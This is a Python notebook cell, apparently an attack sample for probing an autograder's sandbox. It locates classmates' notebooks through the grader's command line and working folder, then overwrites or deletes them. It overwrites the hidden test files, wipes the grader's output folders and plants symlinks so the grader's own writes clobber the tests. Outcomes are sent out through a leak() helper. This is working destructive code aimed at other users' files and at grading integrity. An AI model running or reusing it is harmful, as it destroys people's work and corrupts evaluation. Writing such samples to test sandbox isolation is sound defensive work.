# ruff: noqa: F821, E402 -- notebook cells: toolkit.py's names come from an earlier cell
"""Delete and overwrite other people's files, on an unanswered lab.

Found the way a learner would: the notebooks beside this one and the grader's
submissions (its command line), the hidden tests (`--hidden`), and the grader's output
files (`--json`, `--csv`: every file already in their folder is deleted, and the two
paths become symlinks to the hidden tests, so that the grader's own write would clobber
them). Classmates' notebooks are overwritten (even ones) or deleted (odd ones). Only
what the grader's command line and working folder lead to is touched. In a sandbox none
of it is visible: the notebook sees a private copy of itself.
"""

# %%
from pathlib import Path

classmates = set()
for place in [Path.cwd(), *grader_paths()]:
    if place.is_dir():
        classmates.update(path.resolve() for path in place.rglob("*.ipynb"))
    elif place.suffix == ".ipynb":
        classmates.add(place.resolve())
classmates = sorted(path for path in classmates if not path.name.startswith("attack-"))
for number, path in enumerate(classmates):
    try:
        if number % 2 == 0:
            path.write_text('{"nbformat": 4, "cells": "overwritten by a classmate"}')
        else:
            path.unlink()
        leak(f"{'overwrote' if number % 2 == 0 else 'deleted'} {path}")
    except OSError as error:
        leak(f"could not touch {path}: {error}")

hidden = grader_option("--hidden")
victims = []
if hidden is not None and hidden.is_dir():
    for path in sorted(hidden.glob("*.py")):
        try:
            path.write_text("HIDDEN = {}  # overwritten by a classmate\n")
            victims.append(path)
            leak(f"overwrote {path}")
        except OSError as error:
            leak(f"could not touch {path}: {error}")

for option in ("--json", "--csv"):
    target = grader_option(option)
    if target is None:
        continue
    try:
        for path in target.parent.iterdir():
            if path.is_file() or path.is_symlink():
                path.unlink()
        if victims:
            target.symlink_to(victims[0])
        leak(f"planted {target}")
    except OSError as error:
        leak(f"could not touch {target}: {error}")
